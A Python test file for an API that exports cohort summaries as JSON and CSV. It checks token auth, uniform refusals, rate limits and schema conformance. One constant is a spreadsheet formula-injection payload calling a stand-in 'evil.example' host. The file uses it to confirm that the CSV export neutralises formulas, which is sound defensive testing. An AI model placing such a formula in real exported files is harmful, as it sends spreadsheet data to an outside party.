"""The pull address over real HTTP: what it gives, to whom, and that it is as its document says."""

import asyncio
import csv
import io
from typing import Any

import httpx
import pytest
import schemathesis
from hypothesis import HealthCheck, given, settings

from bot.documents.summaries import COLUMNS, MEASURES
from bot.services import cohorts, leads, new_id, pulls
from bot.values import Actor
from bot.web_api import PULLS_A_MINUTE
from tests.people import ADMIN, LEAD, NEW_YORK, SPRING, make_cohort
from tests.services.summary_data import CohortRows, Written
from tests.stage import Stage

FORMULA = '=IMPORTXML("https://evil.example/"&A1)'


async def ask(stage: Stage, path: str, **options: Any) -> httpx.Response:
    transport = httpx.ASGITransport(stage.bot.web_app())
    async with httpx.AsyncClient(transport=transport, base_url="http://infoview") as client:
        return await client.get(path, **options)


async def with_numbers(stage: Stage, name: str = "Spring") -> str:
    """A cohort of six members who all did something in each of its two weeks."""
    with stage.bot.db.transaction(LEAD.team_id) as session:
        rows = CohortRows(session, LEAD, name=name)
        people = rows.members(6)
        for day in (1, 8):
            rows.all_do(people, Written(day, replied=day + 1))
        cohort_id = rows.cohort.id
    stage.clock.advance(days=14)
    return cohort_id


async def token_of(stage: Stage, cohort_id: str, actor: Actor = LEAD) -> str:
    return await stage.bot.db.run(actor, pulls.make_token, cohort_id)


async def test_a_program_reads_the_summary_as_json(stage: Stage) -> None:
    cohort_id = await with_numbers(stage)
    header = {"Authorization": f"Bearer {await token_of(stage, cohort_id)}"}
    answer = await ask(stage, f"/v1/cohorts/{cohort_id}/summary.json", headers=header)
    assert answer.status_code == 200
    assert answer.headers["cache-control"] == "no-store"
    found = answer.json()
    assert found["members"] == 6
    days = {"first_day": "2026-09-07", "last_day": "2026-09-20"}
    no_share = {"of": None, "share": None, "amount": None}
    assert found["measures"]["contacted"] == {"count": 12, **no_share, **days}
    assert found["measures"]["replied"] == {"count": 12, "of": 12, "share": 1.0, "amount": None, **days}
    assert found["measures"]["met"]["count"] is None
    assert [week["outreach"]["count"] for week in found["weeks"]] == [6, 6]


async def test_a_spreadsheet_reads_it_as_csv(stage: Stage) -> None:
    cohort_id = await with_numbers(stage, FORMULA)
    token = await token_of(stage, cohort_id)
    answer = await ask(stage, f"/v1/cohorts/{cohort_id}/summary.csv?token={token}")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    heading, *rows = csv.reader(io.StringIO(answer.text))
    assert tuple(heading) == COLUMNS
    assert {row[0] for row in rows} == {f"'{FORMULA}"}
    assert [row[1] for row in rows[: len(MEASURES) + 1]] == ["members", *MEASURES]
    [replied] = [row for row in rows if row[1] == "replied"]
    assert replied[4:] == ["12", "12", "1.0", ""]
    assert [row[4] for row in rows if row[1] == "outreach"] == ["6", "6"]


async def test_whatever_is_wrong_gets_the_same_answer(stage: Stage) -> None:
    database = stage.bot.db
    mine, revoked = await make_cohort(database), await make_cohort(database)
    left = await make_cohort(database)
    elsewhere = await database.run(
        Actor("T0OTHER", "U1", is_admin=True), cohorts.create, new_id(), SPRING, NEW_YORK
    )
    token = await token_of(stage, mine.id)
    old = await token_of(stage, revoked.id)
    await database.run(LEAD, pulls.revoke_token, revoked.id)
    of_ex_lead = await token_of(stage, left.id)
    await database.run(ADMIN, leads.change, left.id, [ADMIN.user_id])
    refused = [
        await ask(stage, f"/v1/cohorts/{cohort_id}/summary.{kind}", headers=headers)
        for kind in ("json", "csv")
        for cohort_id, headers in (
            (mine.id, {}),
            (mine.id, {"Authorization": "Bearer wrong"}),
            (mine.id, {"Authorization": f"Basic {token}"}),
            (revoked.id, {"Authorization": f"Bearer {old}"}),
            (revoked.id, {"Authorization": f"Bearer {token}"}),
            (elsewhere.id, {"Authorization": f"Bearer {token}"}),
            (left.id, {"Authorization": f"Bearer {of_ex_lead}"}),
            ("0" * 32, {"Authorization": f"Bearer {token}"}),
            ("%00", {"Authorization": f"Bearer {token}"}),
        )
    ]
    assert {answer.status_code for answer in refused} == {401}
    assert len({(answer.content, tuple(answer.headers.items())) for answer in refused}) == 1


async def test_a_token_that_is_used_too_often_waits(stage: Stage) -> None:
    cohort = await make_cohort(stage.bot.db)
    path = f"/v1/cohorts/{cohort.id}/summary.json?token={await token_of(stage, cohort.id)}"
    transport = httpx.ASGITransport(stage.bot.web_app())
    async with httpx.AsyncClient(transport=transport, base_url="http://infoview") as client:
        answers = [await client.get(path) for _time in range(PULLS_A_MINUTE + 1)]
        assert {answer.status_code for answer in answers[:-1]} == {200}
        assert answers[-1].status_code == 429
        assert 0 < int(answers[-1].headers["retry-after"]) <= 60
        assert (await client.get(path.partition("?")[0])).status_code == 401
        stage.clock.advance(minutes=1)
        assert (await client.get(path)).status_code == 200


@pytest.mark.parametrize("with_token", [True, False])
async def test_it_is_as_its_document_says(stage: Stage, *, with_token: bool) -> None:
    cohort_id = await with_numbers(stage)
    headers = {"Authorization": f"Bearer {await token_of(stage, cohort_id)}"} if with_token else {}
    address = stage.workspace.connection.request_url.removesuffix("/slack/events")
    schema = schemathesis.openapi.from_dict((await ask(stage, "/v1/openapi.json")).json())
    statuses = set()

    def play(operation: Any) -> None:
        @settings(max_examples=8, database=None, suppress_health_check=list(HealthCheck))
        @given(case=operation.as_strategy())
        def as_described(case: Any) -> None:
            stage.clock.advance(minutes=1)  # so that nothing comes too often
            if with_token:
                case.path_parameters["id"] = cohort_id
            answer = case.call(base_url=address, headers=headers)
            case.validate_response(answer)
            statuses.add(answer.status_code)

        as_described()

    operations: list[Any] = [schema[path]["GET"] for path in schema]
    assert len(operations) == 2
    for operation in operations:
        await asyncio.to_thread(play, operation)
    assert statuses == ({200} if with_token else {401})
